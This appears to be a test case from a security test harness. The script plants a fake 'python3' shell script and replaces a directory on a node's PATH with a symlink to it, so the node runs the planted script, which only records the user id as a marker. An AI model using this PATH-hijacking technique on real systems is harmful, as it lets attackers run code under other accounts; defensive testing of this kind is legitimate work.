# name: have the node run a planted script: the directory on its PATH becomes a link to another
# line: 66
# finding: 5
# workspace: on the path
# play: again elsewhere
import os

from attack import STAGE, planted, refused

if STAGE["part"] == "plant":
    try:
        os.makedirs("shims", exist_ok=True)
        with open("shims/python3", "w", encoding="utf-8") as file:
            file.write(f"#!/bin/sh\nid -u > {STAGE['home']}/ran-by-the-node\necho none\n")
        os.chmod("shims/python3", 0o755)
        os.rename(STAGE["path_entry"], f"{STAGE['path_entry']}-moved")
        os.symlink(os.path.abspath("shims"), STAGE["path_entry"])
    except OSError as error:
        refused(f"{error.strerror} on {STAGE['path_entry']}")
    planted("the PATH entry is a link to a directory with a script")
refused("it looks at nothing itself")
